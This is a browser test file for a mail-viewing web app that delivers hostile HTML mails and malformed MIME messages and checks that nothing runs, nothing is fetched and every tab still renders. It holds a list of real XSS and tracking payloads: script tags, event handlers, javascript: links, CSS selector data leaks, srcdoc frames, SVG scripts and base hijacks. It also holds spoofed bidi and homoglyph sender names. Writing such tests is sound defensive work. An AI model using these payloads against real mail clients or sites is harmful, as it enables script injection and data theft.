import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { createClient } from "@mailglass/shared/client";
import { Dialogue } from "./fixtures/dialogue.ts";
import { Inbox } from "./fixtures/inbox.ts";
import { expect, test } from "./fixtures/test.ts";

/** Mail that wants to run, to fetch or to break the page. A server of our own counts what is fetched. */

const ROOMS = ["preview", "text", "envelope", "headers", "source", "parts", "session", "findings"];

/** HTML that tries everything; `bait` is the address that must never be asked for. */
const attacks = (bait: string): Readonly<Record<string, string>> => ({
  scripts: `<script>parent.document.title="owned";fetch("${bait}/script")</script><script src="${bait}/script.js"></script>`,
  "event handlers": `<img src="x" onerror="fetch('${bait}/onerror')"><body onload="fetch('${bait}/onload')"><svg onload="fetch('${bait}/svg')">`,
  "links that run": `<a id="a" href="javascript:fetch('${bait}/js')">a</a><a href="data:text/html,<script>fetch('${bait}/data')</script>">b</a>`,
  "meta refresh": `<meta http-equiv="refresh" content="0;url=${bait}/refresh">`,
  forms: `<form action="${bait}/form" id="f"><input autofocus onfocus="f.submit()"><button>Send</button></form>`,
  "CSS that loads": `<style>@import url("${bait}/import.css");body{background:url("${bait}/bg.png")}@font-face{font-family:x;src:url("${bait}/font")}*{font-family:x}</style><p style="background:url(${bait}/style.png)">x</p>`,
  "CSS that tells": `<style>input[value^="s"]{background:url("${bait}/leak?s")}</style><input value="secret">`,
  pictures: `<img src="${bait}/pixel.gif"><img srcset="${bait}/set.gif 2x"><picture><source srcset="${bait}/source.gif"></picture><video poster="${bait}/poster.gif" src="${bait}/video"></video><audio src="${bait}/audio" autoplay></audio><table background="${bait}/table.gif"><tr><td>x</td></tr></table>`,
  "nested frames": `<iframe src="${bait}/frame"></iframe><iframe srcdoc="<script>fetch('${bait}/srcdoc')</script>"></iframe><object data="${bait}/object"></object><embed src="${bait}/embed">`,
  "links that load": `<link rel="stylesheet" href="${bait}/sheet.css"><link rel="prefetch" href="${bait}/prefetch"><link rel="dns-prefetch" href="${bait}">`,
  "a base": `<base href="${bait}/base/"><img src="relative.gif"><a href="relative">a</a>`,
  SVG: `<svg><image href="${bait}/svg.png"/><use href="${bait}/use.svg#x"/><foreignObject><script>fetch("${bait}/foreign")</script></foreignObject></svg>`,
  "broken markup": `<img src="${bait}/open.gif" <b><table><style><!--</style><img src="${bait}/after.gif" onerror=fetch('${bait}/x')>-->`,
});

const html = (subject: string, body: string): Buffer =>
  Buffer.from(
    `From: "\u202Emoc.elgoog" <x@gооgle.example>\r\nTo: ann@example.com\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}\r\n`,
  );

const lines = (count: number, line: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => `${line(at)}\r\n`).join("");

/** Sources that are broken, or as large as a room can be made. */
const BROKEN: Readonly<Record<string, Buffer>> = {
  "no header": Buffer.from("\r\nonly a body\r\n"),
  nothing: Buffer.from(""),
  "bidi overrides": Buffer.from("Subject: invoice\u202Efdp.exe \u2066\u200B\r\n\r\n\u202Eevil\r\n"),
  "NULs and 8-bit rubbish": Buffer.concat([
    Buffer.from("Subject: nul\0\x01\x7f\r\n\r\n"),
    Buffer.from(Array.from({ length: 512 }, (_, at) => at % 256)),
    Buffer.from("\r\n"),
  ]),
  "a subject of 5 MB": Buffer.from(`Subject: ${"x".repeat(5_000_000)}\r\n\r\nbody\r\n`),
  "10,000 recipients": Buffer.from(
    `To: ${lines(10_000, (at) => ` r${at}@example.com,`).trimStart()}Subject: many\r\n\r\nbody\r\n`,
  ),
  "1,000 parts": Buffer.from(
    `Subject: parts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${lines(1_000, (at) => `--b\r\nContent-Type: text/plain; name=${at}.txt\r\n\r\npart ${at}`)}--b--\r\n`,
  ),
  "parts in parts in parts": Buffer.from(
    `Subject: deep\r\nMIME-Version: 1.0\r\n${lines(200, (at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}`)}\r\ndeep\r\n`,
  ),
  "broken MIME": Buffer.from(
    'Subject: =?utf-8?Q?broken=\r\nContent-Type: multipart/mixed; boundary="\r\nContent-Transfer-Encoding: nonsense\r\n\r\n--\r\n=ZZ\r\n',
  ),
};

test("nothing runs, nothing is fetched, and every room stands", async ({ page, server }) => {
  test.setTimeout(240_000);
  let fetched: string[] = [];
  const trap = createServer((request, response) => {
    fetched.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
  const bait = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
  const broken: string[] = [];
  page.on("pageerror", (error) => broken.push(String(error)));
  page.on("dialog", (dialog) => {
    broken.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  const inbox = new Inbox(page);
  const client = createClient({ url: server.url });
  const dialogue = await Dialogue.open(server.smtp);
  await dialogue.say("EHLO client.example");
  const sources = [
    ...Object.entries(attacks(bait)).map(([name, body]) => [name, html(name, body)] as const),
    ...Object.entries(BROKEN),
  ];
  await inbox.open();
  for (const [name, source] of sources) {
    expect(await dialogue.deliver(source), name).toMatch(/^250 /);
    const { id } = await client.getLatestMessage();
    await page.locator(`[data-id="${id}"]`).click();
    for (const room of ROOMS) {
      await page.getByTestId(`tab-${room}`).click();
      const panel = page.getByTestId(`panel-${room}`);
      await expect(panel, `${name}: ${room}`).toBeVisible();
      await expect(panel.getByRole("status"), `${name}: ${room} does not come`).toHaveCount(0);
      await expect(panel.getByRole("alert"), `${name}: ${room} fails`).toHaveCount(0);
    }
    await page.getByTestId("tab-preview").click();
    const frame = page.getByTestId("preview-frame");
    if ((await frame.count()) > 0) {
      await expect(page.frameLocator('[data-testid="preview-frame"]').locator("body")).toBeAttached();
      await page.getByRole("radio", { name: "Dark mail client" }).check();
    }
    await page.getByTestId("close").click();
  }
  dialogue.close();
  await expect(page).toHaveTitle(/Mailglass$/);
  expect(fetched).toEqual([]);
  expect(broken).toEqual([]);

  // The trap is a good one: what the person asks for is fetched.
  await inbox.row("pictures").click();
  await page.getByRole("button", { name: "Load" }).click();
  await expect.poll(() => fetched.some((path) => path === "/pixel.gif")).toBe(true);
  expect(fetched.filter((path) => /script|onerror|svg$|frame|form|refresh/.test(path))).toEqual([]);
  fetched = [];
  trap.close();
  trap.closeAllConnections();
});
